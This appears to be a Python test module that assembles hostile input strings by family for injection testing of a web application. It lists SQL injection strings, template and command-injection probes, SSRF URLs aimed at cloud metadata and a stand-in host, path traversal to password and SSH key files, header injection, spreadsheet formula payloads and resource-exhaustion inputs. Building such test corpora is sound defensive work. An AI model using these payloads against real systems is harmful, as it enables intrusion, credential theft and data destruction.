"""Hostile texts by family. Markup calls ``__kc``, or makes an element or attribute ``kc``."""

from __future__ import annotations

from dataclasses import dataclass
from functools import cache

from tests.proof.injection.markup import MARKUP

PRODUCT = "9801547"
TEMPLATES = (
    "{{1337*7331}}",
    "{{ 1337|add:9800210 }}",
    "{% debug %}",
    "{% include '/etc/passwd' %}",
    "{% load log %}",
    "{{ request }}",
    "{{ settings.SECRET_KEY }}",
    "{{''.__class__.__mro__}}",
    "${1337*7331}",
    "#{1337*7331}",
    "<%= 1337*7331 %>",
    "[[${1337*7331}]]",
    "@(1337*7331)",
    "*{1337*7331}",
    "%(SECRET_KEY)s",
    "%s%s%s%n%x",
    "{0.__class__}",
    "{request.user.password}",
    "{{constructor.constructor('__kc(1)')()}}",
    "`${__kc(2)}`",
    "$(id)",
    "`id`",
    ";id;",
    "|| ping -c 1 kc.invalid ||",
)
SQL = (
    "'",
    "''",
    '"',
    "\\",
    "' OR '1'='1",
    "' OR 1=1--",
    "') OR ('1'='1",
    "1; DROP TABLE demands_demand--",
    "'; SELECT pg_sleep(5)--",
    "' || pg_sleep(5)--",
    "1' AND SLEEP(5)#",
    "' UNION SELECT NULL,NULL--",
    "' UNION SELECT password FROM accounts_user--",
    "%' OR '%'='",
    "_%_%_%",
    "%",
    "1/0",
    "0x27204F52",
    "';EXEC xp_cmdshell('id')--",
    "' AND 1=CAST((SELECT version()) AS int)--",
    "' AND randomblob(100000000)--",
    "admin'--",
    "\\' OR 1=1--",
    '{"$gt": ""}',
    "*)(uid=*))(|(uid=*",
    "' OR 'x'='x' /*",
)
# Put together here: no committed text names an address that is not ours
METADATA = "http://" + ".".join(["169", "254"] * 2) + "/"
URLS = (
    METADATA + "latest/meta-data/",
    "http://" + "100." * 3 + "200/latest/meta-data/",
    "http://127.0.0.1:5432/",
    "http://localhost:22/",
    "http://[::1]/",
    "http://" + "0x7f000001/",
    "http://" + "2130706433/",
    "http://" + "127.1/",
    "http://kc.invalid/",
    "//kc.invalid/x",
    "\\\\kc.invalid\\share",
    "file:///etc/passwd",
    "gopher://kc.invalid/_x",
    "dict://kc.invalid:11211/stat",
    "ftp://kc.invalid/",
    "ldap://kc.invalid/",
    "jar:http:" + "//kc.invalid!/",
    "php://filter/resource=/etc/passwd",
    "https:" + "//user@kc.invalid",
    "http:" + "//kc.invalid#@localhost/",
    "netdoc:///etc/passwd",
    "${jndi:ldap://kc.invalid/a}",
)
PATHS = (
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "..%252f..%252fetc%252fpasswd",
    "....//....//etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/etc/passwd",
    "/proc/self/environ",
    "C:\\boot.ini",
    "..%c0%af..%c0%afetc/passwd",
    "%2e%2e%2fetc%2fpasswd",
    "./.git/config",
    "~root/.ssh/id_rsa",
    "con",
    "aux.txt",
    "nul",
    "file.csv;.php",
    "....",
    ".",
    "..",
    "-rf",
)
HEADERS = (
    "x\r\nX-Kc: 1",
    "x\nX-Kc: 1",
    "x\rX-Kc: 1",
    "x%0d%0aX-Kc:%201",
    "x\r\n\r\n<kc>",
    "x\u2028X-Kc: 1",
    "x\u560a\u560dX-Kc: 1",
    "x\r\nSet-Cookie: kc=1",
    "x\r\nContent-Length: 0",
    "/\r\nLocation: http://kc.invalid",
    'x"; filename="kc.html',
    "x\x0bX-Kc: 1",
    "x\x85X-Kc: 1",
)
NULLS = (
    "\x00",
    "a\x00b",
    "\x00<kc>",
    "%00",
    "a%00.csv",
    "\x01\x02\x03",
    "\x1b[31mred",
    "\x7f",
    "\x08\x08\x08",
    "\x0c",
    "\x1a",
    "\ufffe",
    "\uffff",
    "\ufffd",
)
INVISIBLE = (
    "\u202egnp.exe",
    "\u2066evil\u2069",
    "a\u200bb",
    "a\u200cb\u200dc",
    "\ufeffbom",
    "\u00adsoft",
    "\u2060join",
    "\u180e",
    "Z\u0351\u0349a\u0360l\u0321g\u0335o",
    "\u0600\u0601",
    "\u3164",
    "\u061c",
    "\u200f\u200f",
    "\ufdfd" * 20,
)
SYMBOLS = (
    "\U0001f600",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\U0001f1e8\U0001f1f3",
    "\U000e0001",
    "\U0010ffff",
    "\U00020000",
    "\u00df\u0130\u0131",
    "\ufb01",
    "\uff1cscript\uff1e__kc(3)\uff1c/script\uff1e",
    "\udced\udca0\udcbd",
    "\udcff\udcfe",
    "\udcc0\udcbc",
    "\\ud83d",
    "&#xD800;",
    "&#0;",
    "\\u0000",
)
BOMBS = (
    "a" * 10_000,
    "<" * 10_000,
    "\u6c49" * 10_000,
    "[" * 5_000,
    '{"a":' * 1_000,
    "9" * 5_000,
    "1e999999",
    "-1e-999999",
    "NaN",
    "Infinity",
    '<!DOCTYPE x [<!ENTITY a "kc">]>&a;',
    "((a+)+)+$" + "a" * 40 + "!",
    "(" * 3_000,
    "9223372036854775808",
    "-1",
    "\u0661\u0662\u0663",
)
_FORMULA_STARTS = (
    *"=+-@",
    "\t=",
    "\r=",
    "\n=",
    "\uff1d",
    "\uff0b",
    "\uff0d",
    "\uff20",
    " =",
    "+-=",
)
_FORMULA_BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://kc.invalid","x")',
)
FORMULAS = tuple(start + body for body in _FORMULA_BODIES for start in _FORMULA_STARTS)
FAMILIES = {
    "markup": MARKUP,
    "formula": FORMULAS,
    "template": TEMPLATES,
    "sql": SQL,
    "url": URLS,
    "path": PATHS,
    "header": HEADERS,
    "null": NULLS,
    "invisible": INVISIBLE,
    "symbol": SYMBOLS,
    "bomb": BOMBS,
}
ALONE = {"null", "bomb"}
SEARCHED = {"markup", "template", "sql", "url", "path"}


@dataclass(frozen=True)
class Payload:
    """One hostile text; undecodable bytes are kept as surrogate escapes."""

    text: str
    family: str

    @property
    def raw(self) -> bytes:
        return self.text.encode("utf-8", "surrogateescape")


@cache
def every_payload() -> tuple[Payload, ...]:
    """All of them, each once."""
    found = {text: Payload(text, family) for family, texts in FAMILIES.items() for text in texts}
    return tuple(found.values())
